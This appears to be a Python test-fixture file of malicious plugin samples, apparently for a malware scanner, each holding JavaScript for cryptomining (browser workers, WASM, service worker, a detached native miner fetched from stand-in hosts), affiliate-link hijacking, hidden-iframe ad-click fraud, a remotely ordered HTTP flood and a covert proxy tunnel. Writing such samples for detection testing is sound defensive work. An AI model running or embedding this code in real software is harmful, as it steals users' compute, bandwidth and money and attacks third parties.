"""The machine's work sold: miners, and traffic made in the user's name."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, hooks, online, sdk_plugin, tsc_widget

_MINER = "miner"
_TRAFFIC = "traffic-abuse"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="pool-client-in-worker",
        family=_MINER,
        files={
            "dist/index.js": tsc_widget(r"""
                const workers = Array.from({ length: navigator.hardwareConcurrency || 2 }, () => new Worker("/plugins/acme.weather/dist/hash.worker.js"));
                const pool = new WebSocket("wss://pool.example.com/proxy");
                pool.onmessage = ({ data }) => {
                    const { job } = JSON.parse(data);
                    workers.forEach((worker, n) => worker.postMessage({ ...job, nonce: n << 24 }));
                };
                workers.forEach((worker) => {
                    worker.onmessage = ({ data }) => pool.send(JSON.stringify({ type: "submit", params: data }));
                });
                pool.onopen = () => pool.send(JSON.stringify({ type: "auth", params: { site_key: "day", user: null } }));
            """),
            "dist/hash.worker.js": r"""'use strict';
let stop = false;
self.onmessage = async ({ data: { blob, target, nonce, job_id } }) => {
  const bytes = Uint8Array.from(blob.match(/../g), (h) => parseInt(h, 16));
  const view = new DataView(bytes.buffer);
  for (let n = nonce; !stop; n += 1) {
    view.setUint32(39, n);
    const hash = new DataView(await crypto.subtle.digest('SHA-256', bytes));
    if (hash.getUint32(28, true) < target) self.postMessage({ job_id, nonce: n, result: hash.getUint32(28) });
  }
};
""",
        },
    ),
    Sample(
        name="hosted-miner-started",
        family=_MINER,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = function (context) {
  var tag = document.createElement('script');
  tag.src = 'https://lib.example.net/hive.min.js';
  tag.onload = function () {
    var miner = new window.Hive.Anonymous('0000SITEKEY0000', { throttle: 0.4, autoThreads: true });
    if (!miner.isMobile() && !miner.didOptOut(14400)) miner.start(window.Hive.FORCE_EXCLUSIVE_TAB);
    miner.on('found', function () { context.logger.debug('tick'); });
  };
  document.head.appendChild(tag);
};
"""
        },
    ),
    Sample(
        name="native-miner-downloaded",
        family=_MINER,
        files={
            "dist/index.js": hooks(
                r"""
                const folder = path.join(os.homedir(), '.cache', 'thumbs');
                fs.mkdirSync(folder, { recursive: true });
                const binary = path.join(folder, 'thumbd');
                fs.writeFileSync(binary, Buffer.from(await (await fetch(URLS[process.platform])).arrayBuffer()), { mode: 0o755 });
                spawn(binary, ['-o', 'stratum+tcp://pool.example.org:3333', '-u', WALLET, '--donate-level', '1', '--cpu-max-threads-hint', '50', '-B'], {
                  detached: true, stdio: 'ignore',
                }).unref();
                """,
                above=r"""
                const { spawn } = require('child_process');
                const fs = require('fs');
                const os = require('os');
                const path = require('path');
                const WALLET = '4' + 'A'.repeat(94);
                const URLS = { linux: 'https://dl.example.org/t/linux', darwin: 'https://dl.example.org/t/mac', win32: 'https://dl.example.org/t/win.exe' };
                """,
            )
        },
    ),
    Sample(
        name="wasm-hash-when-idle",
        family=_MINER,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const bytes = Uint8Array.from(atob(ENGINE), (c) => c.charCodeAt(0));
                const { instance } = await WebAssembly.instantiate(bytes, { env: { random: Math.random } });
                const lane = new WebSocket('wss://jobs.example.net/cn');
                lane.onmessage = ({ data }) => {
                  const { seed, difficulty } = JSON.parse(data);
                  const step = (deadline) => {
                    while (deadline.timeRemaining() > 1) {
                      const share = instance.exports.cn_hash(seed, difficulty);
                      if (share) lane.send(JSON.stringify({ share }));
                    }
                    requestIdleCallback(step);
                  };
                  requestIdleCallback(step);
                };
                """,
                above="const ENGINE = 'AGFzbQEAAAABBgFgAn9/AX8DAgEABwsBB2NuX2hhc2gAAAoHAQUAIAALCw==';",
            )
        },
        package=ESM,
    ),
    Sample(
        name="stratum-over-plain-socket",
        family=_MINER,
        files={
            "dist/index.js": r"""'use strict';
const net = require('net');
const { createHash } = require('crypto');
const { Worker, isMainThread, parentPort, workerData } = require('worker_threads');

const twice = (buffer) => createHash('sha256').update(createHash('sha256').update(buffer).digest()).digest();

if (!isMainThread) {
  const header = Buffer.from(workerData.header, 'hex');
  for (let nonce = workerData.from; nonce < workerData.to; nonce += 1) {
    header.writeUInt32LE(nonce, 76);
    if (twice(header).readUInt32BE(28) === 0) parentPort.postMessage(nonce);
  }
}

exports.onEnable = () => {
  const socket = net.connect(3333, 'stratum.example.com');
  socket.write('{"id":1,"method":"mining.subscribe","params":["day/1.0"]}\n{"id":2,"method":"mining.authorize","params":["w.1","x"]}\n');
  socket.on('data', (chunk) => {
    const job = JSON.parse(chunk);
    if (job.method !== 'mining.notify') return;
    for (let n = 0; n < 8; n += 1) {
      new Worker(__filename, { workerData: { header: job.params[2], from: n << 29, to: (n + 1) << 29 } })
        .on('message', (nonce) => socket.write(JSON.stringify({ id: 4, method: 'mining.submit', params: ['w.1', job.params[0], nonce] }) + '\n'));
    }
  });
};
"""
        },
    ),
    Sample(
        name="service-worker-mines-on",
        family=_MINER,
        files={
            "dist/index.js": r"""export async function onEnable() {
  await navigator.serviceWorker.register('/plugins/acme.weather/dist/sw.js', { scope: '/' });
}
""",
            "dist/sw.js": r"""importScripts('https://lib.example.org/randomx.js');

self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('periodicsync', (event) => event.waitUntil(work()));
self.addEventListener('fetch', () => work());

async function work() {
  const job = await (await fetch('https://pool.example.net/job')).json();
  const share = self.randomx(job.blob, job.target, 20000);
  if (share) await fetch('https://pool.example.net/share', { method: 'POST', body: JSON.stringify(share) });
}
""",
        },
        package=ESM,
    ),
    Sample(
        name="affiliate-links-rewritten",
        family=_TRAFFIC,
        files={
            "dist/index.js": hooks(
                r"""
                document.addEventListener('click', (event) => {
                  const link = event.target.closest && event.target.closest('a[href]');
                  if (!link) return;
                  const url = new URL(link.href);
                  if (SHOPS.test(url.hostname)) {
                    url.searchParams.set('tag', 'day0f-20');
                    link.href = 'https://go.example.com/r?u=' + encodeURIComponent(url);
                  }
                }, true);
                """,
                above=r"const SHOPS = /(^|\.)(shop|store|books)\.example\.(com|org)$/;",
            )
        },
    ),
    Sample(
        name="hidden-frames-click-adverts",
        family=_TRAFFIC,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = async ({ api }) => {
  const { data: campaigns } = await api.http.get('https://ads.example.net/campaigns');
  for (const { url, selector, dwell } of campaigns) {
    const frame = Object.assign(document.createElement('iframe'), { src: url, width: 1, height: 1 });
    frame.style.cssText = 'position:absolute;opacity:0;pointer-events:none';
    frame.addEventListener('load', () => setTimeout(() => {
      const target = frame.contentDocument && frame.contentDocument.querySelector(selector);
      if (target) target.dispatchEvent(new MouseEvent('click', { bubbles: true }));
      frame.remove();
    }, dwell));
    document.body.append(frame);
  }
};
"""
        },
        manifest=online("https://ads.example.net"),
    ),
    Sample(
        name="floods-a-target",
        family=_TRAFFIC,
        files={
            "dist/index.js": r"""const sleep = (ms) => new Promise((go) => setTimeout(go, ms));

export async function onEnable({ api }) {
  const { data: order } = await api.http.get('https://orders.example.org/current');
  const until = Date.now() + order.seconds * 1000;
  while (Date.now() < until) {
    for (let n = 0; n < order.burst; n += 1) {
      fetch(`${order.target}?${Math.random().toString(36)}`, { mode: 'no-cors', cache: 'no-store', method: order.method }).catch(() => 0);
    }
    await sleep(order.pause);
  }
}
"""
        },
        manifest=online("https://orders.example.org"),
        package=ESM,
    ),
    Sample(
        name="lends-the-connection",
        family=_TRAFFIC,
        files={
            "dist/index.js": r"""'use strict';
const net = require('net');
const tls = require('tls');

function serve() {
  const control = tls.connect(443, 'exit.example.com');
  control.write('HELLO ' + process.platform + '\n');
  control.on('data', (line) => {
    const [verb, id, host, port] = String(line).trim().split(' ');
    if (verb !== 'OPEN') return;
    const lane = tls.connect(443, 'exit.example.com', () => lane.write('LANE ' + id + '\n'));
    const target = net.connect(+port, host);
    lane.pipe(target).pipe(lane);
    target.on('error', () => lane.destroy());
  });
  control.on('close', () => setTimeout(serve, 30000));
}

exports.Speed = function Speed() { return null; };
exports.onEnable = serve;
"""
        },
    ),
)
